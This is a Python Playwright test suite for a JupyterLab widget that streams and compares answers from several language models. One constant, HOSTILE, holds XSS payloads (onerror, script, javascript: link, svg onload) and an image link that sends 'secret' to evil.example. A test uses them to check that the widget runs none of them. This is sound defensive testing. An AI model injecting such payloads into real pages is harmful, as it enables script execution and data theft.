"""The comparison in JupyterLab, as a person sees and uses it."""

import json
import re

from axe_playwright_python.sync_playwright import Axe

PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
SETUP = "import threading, nbkit; from scripted_models import Scripted; from nbkit.errors import RateLimitError; "
IDLE = """() => {
    const panes = [...document.querySelectorAll(".nbk-live .nbk-pane")];
    const ended = panes.filter((pane) => ["done", "stopped", "failed", "skipped"].includes(pane.dataset.status));
    return panes.length && ended.length === panes.length && !document.querySelector(".nbk-live [aria-busy=true]");
}"""
SAME = """shown => {
    const panes = [...document.querySelectorAll(".nbk-live .nbk-pane")];
    return panes.length === shown.length && panes.every((pane, index) => pane.innerText === shown[index]);
}"""
COVERED = ".jp-OutputArea-output.nbk-covered"
BUSY = "() => document.querySelector('.nbk-live [aria-busy=true]')"
HOSTILE = (
    '<img src=x onerror=\\"window.pwned=1\\"><script>window.pwned=2</script> [click](javascript:window.pwned=3) '
    '![leak](https://evil.example/?q=secret) <svg onload=\\"window.pwned=4\\">'
)


def test_an_answer_is_seen_while_it_streams_and_that_another_is_held_up_by_a_rate_limit(lab):
    model = "model = Scripted('a', [*['word '] * 20, gate, *['word '] * 20], wait=0.02)"
    limit = "nbkit.limit(model.endpoint.base_url.split('/')[2], at_once=1)"
    pause = "import time; from nbkit.adapters.limits import list_lines; "
    pause += "[line.pause('a', time.monotonic(), 500) for line in list_lines()]"
    lab.open(
        f"{SETUP} gate = threading.Event(); {model}; {limit}; c = nbkit.compare('Hi', [model, 'demo/swift', model])",
        f"{pause}; gate.set()",
    )
    lab.run(0)
    lab.until(BUSY)
    assert lab.page.locator(".nbk-pane").count() == 3
    lab.until("() => document.querySelectorAll('.nbk-status')[2].innerText === 'waiting, rate limited'")
    lab.until("() => document.querySelector('.nbk-answer').innerText.trim().split(/\\s+/).length === 20")
    assert lab.page.locator(".nbk-stop").is_visible()
    assert lab.page.locator(".nbk-answer").first.inner_text().split() == ["word"] * 20
    lab.run(1)
    for seconds in (498, 497):  # counted down by the page
        text = "document.querySelectorAll('.nbk-status')[2].innerText"
        lab.until(f"() => {text}.endsWith(' s, rate limited') && parseInt({text}.split(' ')[1]) <= {seconds}")
    lab.page.get_by_role("button", name="Stop").click()
    lab.until(IDLE)
    assert lab.page.locator(".nbk-answer").first.inner_text().split() == ["word"] * 40
    assert lab.page.locator(".nbk-status").nth(2).inner_text() == "stopped"
    assert not lab.page.locator(".nbk-stop").is_visible()
    assert lab.errors == []


def test_a_comparison_streams_answers_follow_ups_and_comes_back_after_a_reload(lab):
    lab.open("import nbkit; c = nbkit.compare('Explain recursion', ['demo/swift', 'demo/sage'])")
    lab.run()
    panes = lab.page.locator(".nbk-pane")
    lab.until(IDLE)
    assert panes.count() == 2
    assert "Recursion is a function" in panes.nth(0).inner_text()
    assert panes.nth(1).locator(".nbk-answer table").count() == 1
    assert panes.nth(1).locator(".nbk-answer pre .nbk-k").count() > 0
    for pane in panes.all():
        strip = pane.locator(".nbk-strip").inner_text()
        assert "cost $0.0" in strip
        assert "tok/s" in strip
    assert not lab.page.locator(".nbk-static").is_visible()

    box = lab.page.get_by_label("Follow-up")
    box.fill("echo: **again**")
    box.press("Enter")
    lab.until("() => document.querySelectorAll('.nbk-turn').length === 4")
    lab.until(IDLE)
    lab.until("() => document.querySelectorAll('.nbk-strip').length === 4")
    assert [pane.locator(".nbk-turn").last.locator(".nbk-answer strong").count() for pane in panes.all()] == [1, 1]
    assert box.evaluate("box => box === document.activeElement")
    assert lab.page.locator(".nbk-totals").inner_text().startswith("this comparison $0.0")

    shown = panes.all_inner_texts()
    lab.until_kept(4)
    lab.save()
    lab.page.reload()
    lab.until(IDLE)
    lab.until(SAME, shown)
    assert lab.errors == []
    assert lab.abroad == []


def test_without_its_kernel_the_twin_stands_alone(lab):
    lab.open(
        "import nbkit; p = nbkit.pick(nbkit.demo_models(), value=['demo/sage']); p",
        "for text in ('Hi', 'Hello'): nbkit.compare(text, ['demo/swift'])",
    )
    lab.run()
    lab.until(IDLE)
    lab.until("() => document.querySelector('.nbk-pick, [role=listbox]')")
    for number in (1, 2):
        lab.until(f"n => / cost \\$/.test(document.querySelectorAll('{COVERED}')[n]?.textContent)", number)
    assert lab.page.locator(".nbk-live").count() == lab.page.locator(COVERED).count() == 3
    assert lab.page.locator(f"{COVERED}:visible").count() == 0
    lab.page.evaluate("() => { jupyterapp.commands.execute('notebook:create-output-view') }")  # of the last cell
    lab.until("() => document.querySelectorAll('.nbk-live').length === 5")
    assert [len(cell["outputs"]) for cell in lab.save()["cells"]] == [1, 2]
    lab.page.evaluate("() => jupyterapp.shell.currentWidget.sessionContext?.session.kernel.restart()")
    lab.page.reload()
    lab.until("() => document.querySelectorAll('.nbk-static').length === 3")
    shown = lab.page.locator(".jp-OutputArea").all_inner_texts()
    assert "Sage (simulated)" in shown[0]
    assert shown[1].count("cost $0.0") == 2
    assert "model not found" not in "".join(shown)


def test_stop_works_by_button_and_by_key_and_keeps_the_partial_answer(lab):
    model = "Scripted('a', ['An answer that ', 'stands still', None])"
    lab.open(f"{SETUP} c = nbkit.compare('Explain recursion', [{model}, {model}])")
    lab.run()
    lab.until("() => [...document.querySelectorAll('.nbk-answer')].filter(a => a.innerText.length > 20).length === 2")
    lab.page.get_by_role("button", name="Stop").click()
    lab.until(IDLE)
    assert lab.page.locator(".nbk-note", has_text="stopped by you").count() == 2
    assert len(lab.page.locator(".nbk-answer").first.inner_text()) > 10
    box = lab.page.get_by_label("Follow-up")
    box.fill("Go on")
    box.press("Enter")
    lab.until(BUSY)
    box.press("Escape")
    lab.until(IDLE)
    assert lab.page.locator(".nbk-note", has_text="stopped by you").count() == 4
    assert lab.errors == []


def test_the_menu_of_a_pane_cancels_edits_sets_and_mutes_by_mouse_and_by_key(lab):
    model = "Scripted('a', ['An answer that ', 'stands still', None], ['A better one'], ['Another'], ['More'])"
    lab.open(f"{SETUP} c = nbkit.compare('Hi', [{model}, 'demo/swift'])", "d = c.fork(); d")
    lab.run(0)
    lab.until("() => document.querySelector('.nbk-answer')?.innerText.length > 20")
    pane = lab.page.locator(".nbk-pane").first
    more = pane.get_by_role("button", name="Menu of")

    def choose(item):
        lab.page.locator(".nbk-menu:popover-open [role=menuitem]", has_text=item).click()

    more.click()
    choose("Stop")
    lab.until(IDLE)
    assert [note.inner_text() for note in lab.page.locator(".nbk-note").all()] == ["stopped by you"]
    pane.locator(".nbk-scroll").press("m")
    assert lab.page.evaluate("() => document.activeElement.textContent") == "Ask again"
    lab.page.keyboard.press("End")
    lab.page.keyboard.press("ArrowDown")
    lab.page.keyboard.press("Enter")
    lab.until("() => document.querySelector('.nbk-answer').innerText.includes('A better one')")
    lab.until(IDLE)
    assert more.evaluate("node => node === document.activeElement")
    assert lab.page.locator(".nbk-turn").count() == 2

    more.press("Enter")
    lab.page.keyboard.press("ArrowDown")
    lab.page.keyboard.press("Enter")
    assert lab.page.locator(".nbk-menu textarea").input_value() == "Hi"
    assert Axe().run(lab.page, {"include": [[".nbk-live"]]}, options={}).response["violations"] == []
    lab.page.keyboard.press("Escape")
    assert more.evaluate("node => node === document.activeElement")
    more.click()
    choose("Edit a prompt")
    lab.page.locator(".nbk-menu textarea").fill("Hello")
    lab.page.get_by_label("Ask all 2 models").uncheck()
    lab.page.get_by_role("button", name="Ask on a new branch").click()
    lab.until("() => document.querySelector('.nbk-answer').innerText.includes('Another')")
    lab.until(IDLE)
    assert pane.locator(".nbk-branches").inner_text() == "‹2/2›"
    assert pane.locator(".nbk-prompt").inner_text() == "Hello"
    former = pane.get_by_role("button", name="Former branch")
    former.press("Enter")
    lab.until("() => document.querySelector('.nbk-answer').innerText.includes('A better one')")
    assert former.evaluate("node => node === document.activeElement")

    more.click()
    choose("Settings")
    lab.page.get_by_label("max tokens").fill("-1")
    lab.page.keyboard.press("Enter")
    lab.page.get_by_label("max tokens").fill("9")
    lab.page.keyboard.press("Enter")
    more.click()
    choose("Leave out")
    lab.until("() => document.querySelector('.nbk-status').innerText === 'muted'")
    lab.page.get_by_label("Follow-up").fill("More")
    lab.page.get_by_label("Follow-up").press("Enter")
    lab.until("() => document.querySelectorAll('.nbk-turn').length === 4")
    lab.until(IDLE)
    assert pane.locator(".nbk-note").last.inner_text() == "not asked"

    lab.run(1)
    lab.until("() => document.querySelectorAll('.nbk-live').length === 2")
    lab.until("() => document.querySelectorAll('.nbk-live')[1].querySelectorAll('.nbk-strip').length === 3")
    assert lab.page.locator(".nbk-totals").last.inner_text().startswith("this comparison $0 ")
    more.click()
    choose("Add a model")
    lab.page.get_by_label("Model id").press_sequentially("sonet 5.5")
    lab.until("() => document.querySelector('.nbk-menu option')?.label.startsWith('sonet 5.5 → ')")
    lab.page.get_by_label("Model id").fill("demo/sage")
    lab.page.keyboard.press("Enter")
    lab.until("() => document.querySelectorAll('.nbk-pane').length === 5")
    lab.until(IDLE)
    assert lab.errors == []


def test_a_failure_stays_in_its_pane_with_a_retry(lab):
    model = "Scripted('b', [RateLimitError('too many')], [gate, 'better'])"
    lab.open(f"{SETUP} gate = threading.Event(); c = nbkit.compare('Hi', ['demo/swift', {model}])", "gate.set()")
    lab.run(0)
    lab.until("() => document.querySelector('.nbk-problem')")
    lab.until(IDLE)
    assert lab.page.locator(".nbk-problem").count() == 1
    assert "Wait a little." in lab.page.locator(".nbk-problem").inner_text()
    lab.page.get_by_role("button", name="Retry").click()
    lab.until(BUSY)
    assert lab.page.locator(".nbk-problem").count() == 0
    lab.run(1)
    lab.until(IDLE)
    assert lab.page.locator(".nbk-pane").nth(0).locator(".nbk-strip").count() == 1
    assert lab.page.locator(".nbk-answer").last.inner_text() == "better"
    assert lab.errors == []


def test_a_hostile_answer_executes_nothing_live_or_saved(lab):
    lab.open(f'import nbkit; c = nbkit.compare("echo: {HOSTILE}", ["demo/swift", "demo/sage"])', "c.freeze()")
    lab.run(0)
    lab.until(IDLE)
    assert "<script>" in lab.page.locator(".nbk-answer").first.inner_text()
    assert lab.page.locator(".nbk-live").locator("img, script, svg, iframe, [onerror], [href^=javascript]").count() == 0
    lab.run(1)
    lab.until("() => !document.querySelector('.nbk-live') && document.querySelector('.nbk-static')")
    bundles = [output["data"] for cell in lab.save()["cells"] for output in cell["outputs"]]
    assert not any("application/vnd.jupyter.widget-view+json" in bundle for bundle in bundles)
    lab.page.reload()
    lab.until("() => document.querySelector('.nbk-static')")
    assert "<script>" in lab.page.locator(".nbk-static").inner_text()
    assert re.search(r"this comparison \$0.0\d+ · notebook \$0.0", lab.page.locator(".nbk-static").inner_text())
    assert lab.page.evaluate("() => window.pwned") is None
    assert lab.abroad == []


def test_the_bar_stays_in_sight_and_answers_are_read_from_their_start(lab):
    model = "Scripted({0!r}, [*['A line of its own.\\n\\n'] * 60, gate, 'In the middle.\\n\\n', then, 'The last.'])"
    first, second = (model.format(name) for name in "ab")
    begin = f"gate, then = threading.Event(), threading.Event(); c = nbkit.compare('Count', [{first}, {second}] * 3)"
    lab.open(f"{SETUP} {begin}", "gate.set()", "then.set()")
    lab.run(0)
    has = "([number, text]) => document.querySelectorAll('.nbk-answer')[number]?.innerText.includes(text)"
    panes, answers = lab.page.locator(".nbk-pane"), lab.page.locator(".nbk-answer")
    lab.until(has, [0, "A line"])
    for number in range(6):  # each is drawn when it comes into sight
        panes.nth(number).evaluate("pane => pane.scrollIntoView({ block: 'center' })")
        lab.until(has, [number, "A line"])
    follows = "panes => panes.map((pane) => pane.scrollHeight - pane.scrollTop - pane.clientHeight < 30)"
    assert lab.page.locator(".nbk-scroll").evaluate_all(follows) == [True] * 6
    lab.page.evaluate("() => document.querySelector('.nbk-pane:last-child').scrollIntoView({ block: 'end' })")
    bar, box = lab.page.locator(".nbk-bar"), lab.page.locator(".nbk-footer")
    panel = lab.page.locator(".jp-WindowedPanel-outer").bounding_box()
    assert bar.bounding_box()["y"] >= panel["y"]
    assert box.bounding_box()["y"] + box.bounding_box()["height"] <= panel["y"] + panel["height"] + 1
    assert "Count" in bar.inner_text()
    assert "0 of 6 done" in bar.inner_text()
    reader = lab.page.locator(".nbk-scroll").nth(5)
    reader.press("Home")
    lab.until("() => document.querySelectorAll('.nbk-scroll')[5].scrollTop === 0")
    reader.press("ArrowDown")
    lab.until("() => document.querySelectorAll('.nbk-scroll')[5].scrollTop >= 40")
    lab.page.evaluate("() => document.querySelectorAll('.jp-Cell')[2].scrollIntoView({ block: 'end' })")
    lab.until("() => document.querySelector('.nbk-pane').getBoundingClientRect().bottom < 0")
    lab.run(1)
    lab.until(has, [5, "In the middle."])
    assert "In the middle." not in answers.first.inner_text()
    panes.first.evaluate("pane => pane.scrollIntoView({ block: 'center' })")
    lab.until(has, [0, "In the middle."])
    lab.run(2)
    lab.until(IDLE)
    tops = lab.page.locator(".nbk-scroll").evaluate_all("panes => panes.map((pane) => pane.scrollTop)")
    assert max(tops[:5]) < 20
    assert tops[5] >= 40
    assert lab.page.locator(".nbk-pane.nbk-cut").count() == 6
    lab.page.locator(".nbk-scroll").first.press("s")
    assert lab.page.get_by_title("Scroll the answers together").get_attribute("aria-pressed") == "true"
    lab.page.locator(".nbk-scroll").first.press("End")
    lab.until("() => [...document.querySelectorAll('.nbk-pane')].every((pane) => !pane.classList.contains('nbk-cut'))")
    lab.page.locator(".nbk-scroll").first.press("Home")
    lab.until("() => [...document.querySelectorAll('.nbk-scroll')].every((pane) => pane.scrollTop === 0)")
    lab.page.get_by_title("Scroll the answers together").click()
    lab.page.get_by_title("Show the answer of").first.click()
    assert lab.page.locator(".nbk-pane").first.inner_text().endswith("tok/s")
    assert lab.page.locator(".nbk-pane.nbk-cut").count() == 5
    assert lab.errors == []


def test_the_score_line_compares_sorts_and_leads_to_the_answers(lab):
    models = "Scripted('a', ['x '] * 40), Scripted('b', ['y']), Scripted('c', [RateLimitError('too many')])"
    lab.open(f"{SETUP} c = nbkit.compare('Hi', [{models}])")
    lab.run()
    lab.until(IDLE)
    names = "rows => rows.map((row) => row.querySelector('.nbk-jump').textContent)"
    rows = lab.page.locator(".nbk-score tbody tr")
    assert rows.evaluate_all(names) == ["A", "B", "C"]
    assert rows.nth(1).locator("[title=cheapest]").count() == 1
    assert set(rows.nth(2).locator("td").all_inner_texts()) == {""}
    cost = lab.page.get_by_title("Sort by cost")
    cost.press("Enter")
    assert rows.evaluate_all(names) == ["B", "A", "C"]
    cost.press("Enter")
    assert rows.evaluate_all(names) == ["A", "B", "C"]
    assert lab.page.locator(".nbk-score th[aria-sort=descending]").inner_text().startswith("cost")
    lab.page.get_by_title("Go to the answer of scripted/b").press("Enter")
    assert lab.page.evaluate("() => document.activeElement.getAttribute('aria-label')") == "Answers of scripted/b"
    assert lab.errors == []


def test_a_key_can_be_given_in_the_pane_and_is_kept_nowhere(lab):
    lab.open(
        "import os, nbkit; os.environ.pop('ANTHROPIC_API_KEY', None); os.environ['HTTPS_PROXY'] = 'http://127.0.0.1:9'",
        "c = nbkit.compare('Hi', ['anthropic/claude-haiku-4-5', 'demo/swift'])",
    )
    lab.run()
    lab.until(IDLE)
    box = lab.page.get_by_label("API key for anthropic")
    assert box.get_attribute("type") == "password"
    assert "api.anthropic.com only" in lab.page.locator(".nbk-problem").inner_text()
    box.evaluate("box => { box.dataset.old = 'true'; }")  # another box comes with the next failure
    lab.page.get_by_role("button", name="Retry").press("Enter")
    assert lab.page.evaluate("() => document.activeElement.className") == "nbk-scroll"
    lab.until("() => document.querySelector('.nbk-key:not([data-old])')")
    lab.until(IDLE)
    box.fill("sk-canary-1234567890")
    box.press("Enter")
    lab.until("() => document.querySelector('.nbk-problem')?.innerText.includes('no API key') === false")
    lab.until(IDLE)
    assert "canary" not in json.dumps(lab.save())
    assert "canary" not in lab.page.content()


def test_a_failure_that_asking_again_cannot_cure_has_no_retry(lab):
    content = [{"type": "text", "text": "What is this?"}, {"type": "image_url", "image_url": {"url": PIXEL}}]
    lab.open(
        f"import nbkit; c = nbkit.compare([{{'role': 'user', 'content': {content}}}], ['demo/swift', 'demo/sage'])"
    )
    lab.run()
    lab.until(IDLE)
    assert "does not read images" in lab.page.locator(".nbk-problem").first.inner_text()
    assert lab.page.get_by_role("button", name="Retry").count() == 0
    assert lab.page.locator(".nbk-bar .nbk-chip").all_inner_texts() == ["1 image"]
